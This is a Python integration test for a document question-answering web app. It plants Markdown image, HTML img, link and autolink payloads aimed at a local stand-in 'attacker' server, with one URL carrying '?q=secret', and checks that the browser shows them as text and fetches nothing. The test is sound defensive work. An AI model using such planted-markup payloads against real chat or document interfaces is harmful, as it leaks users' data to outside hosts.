"""Attack: a document plants Markdown and HTML that would make the reader's browser fetch a URL of
the attacker's (carrying whatever it encodes) or offer the attacker's links. The page must show
the planted text as text. Driven in Debian's Chromium with Playwright against the full stack; the
attacker's host is a counter server on 127.0.0.1 that records every request it gets."""

from __future__ import annotations

import os
import re
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.integration.conftest import Stack, running_stack, wait_job
from tests.integration.test_browser import page  # noqa: F401  (the browser fixture)
from ui.safe import WORD_JOINER

pytestmark = pytest.mark.integration
SCREENSHOT = "ui-exfiltration.png"
# A stack of this module's own, on a Redis database of its own: the integration suite's stack
# (database 13) runs for the whole session, and a second start on it would flush its queues.
REDIS_DB = 9


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    with running_stack(tmp_path_factory.mktemp("ui-exfiltration"), REDIS_DB) as running:
        yield running


class Counter(ThreadingHTTPServer):
    """The attacker's server: every request to it, whatever its method or path, is recorded."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), _Record)

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Record(BaseHTTPRequestHandler):
    def _record(self) -> None:
        self.server.seen.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()
        self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

    do_GET = do_POST = do_HEAD = do_OPTIONS = _record

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture
def counter() -> Iterator[Counter]:
    server = Counter()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def reader(stack: Stack) -> str:
    """A user of their own, so the page shows exactly one collection: theirs."""
    for args in (("user", "add", "exfil-reader"), ("key", "create", "exfil-reader")):
        out = stack.cli(*args)
        assert out.returncode == 0, out.stdout + out.stderr
    key = out.stdout.splitlines()[0].strip()
    with stack.client(key) as c:
        assert c.post("/collections", json={"name": "lighthouse"}).status_code == 201
    return key


def planted_text(base: str) -> str:
    return (
        "The Quillon lighthouse keeper logs 37 storms a year "
        f"![storm chart]({base}/leak-image?q=secret) "
        f'<img src="{base}/leak-html"> '
        f"and files [the storm report]({base}/leak-link) at <{base}/leak-autolink> "
        "every spring, &amp; *never* late."
    )


def test_planted_image_html_and_links_show_as_text_and_nothing_is_fetched(
    stack: Stack,
    reader: str,
    page,  # noqa: F811
    counter: Counter,
    tmp_path: Path,  # type: ignore[no-untyped-def]
) -> None:
    from playwright.sync_api import expect

    planted = planted_text(counter.base)
    with stack.client(reader) as api:
        resp = api.post(
            "/documents",
            data={"collection": "lighthouse"},
            files=[("files", ("quillon.txt", planted.encode()))],
        )
        assert resp.status_code in (200, 201, 202), resp.text
        job = wait_job(api, resp.json()["id"])
        assert job["counts"] == {"ready": 1}, job
        (doc,) = api.get("/documents", params={"collection": "lighthouse"}).json()
        chunks = api.get(f"/documents/{doc['id']}/chunks").json()
    # the attack reaches the page only if ingestion kept the planted markup
    assert any(f"![storm chart]({counter.base}/leak-image?q=secret)" in c["text"] for c in chunks)

    page.goto(stack.ui_url)
    page.get_by_label("API key", exact=True).fill(reader)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_text("Signed in as")).to_be_visible()
    box = page.get_by_placeholder("Ask a question about your documents")
    box.fill("How many storms a year does the Quillon lighthouse keeper log?")
    box.press("Enter")
    # the passage shows under the answer whatever the model says: as a citation, or as the
    # passages the model was given, or as the closest evidence when it abstains
    sources = page.get_by_test_id("stExpander").filter(has_text="quillon.txt")
    expect(sources.first).to_be_visible(timeout=240_000)
    for i in range(sources.count()):
        sources.nth(i).get_by_text(re.compile(r"\[\d\] quillon\.txt")).click()
    shown = page.get_by_test_id("stExpanderDetails").filter(has_text="Quillon lighthouse keeper")
    expect(shown.first).to_be_visible()
    # the planted constructs are on the page as the characters the document holds (bare URLs
    # carry an invisible word joiner, which keeps them from becoming links)
    text = " ".join((shown.first.text_content() or "").replace(WORD_JOINER, "").split())
    for literal in (
        f"![storm chart]({counter.base}/leak-image?q=secret)",
        f'<img src="{counter.base}/leak-html">',
        f"[the storm report]({counter.base}/leak-link)",
        f"<{counter.base}/leak-autolink>",
        "&amp; *never* late",
    ):
        assert literal in text, (literal, text)
    # ... and nothing of them became an image, a link or an element
    port = str(counter.server_address[1])
    assert page.locator(f'img[src*="{port}"], a[href*="{port}"], [src*="{port}"]').count() == 0
    assert shown.first.locator("img, a, em").count() == 0
    # every image the page has is loaded (or failed) by now: had one pointed at the counter,
    # its request would be recorded
    page.wait_for_function("() => Array.from(document.images).every(i => i.complete)")
    # the expander opens with an animation: screenshot once the passage has its full height
    page.wait_for_function(
        "el => el.getBoundingClientRect().height > 60", arg=shown.first.element_handle()
    )
    shot = tmp_path / SCREENSHOT
    page.screenshot(path=str(shot), full_page=True)
    target = os.environ.get("ASKDOCS_SCREENSHOT_DIR")
    if target:
        Path(target).mkdir(parents=True, exist_ok=True)
        shutil.copy(shot, Path(target) / SCREENSHOT)
    assert counter.seen == [], f"the reader's browser fetched the attacker's URLs: {counter.seen}"
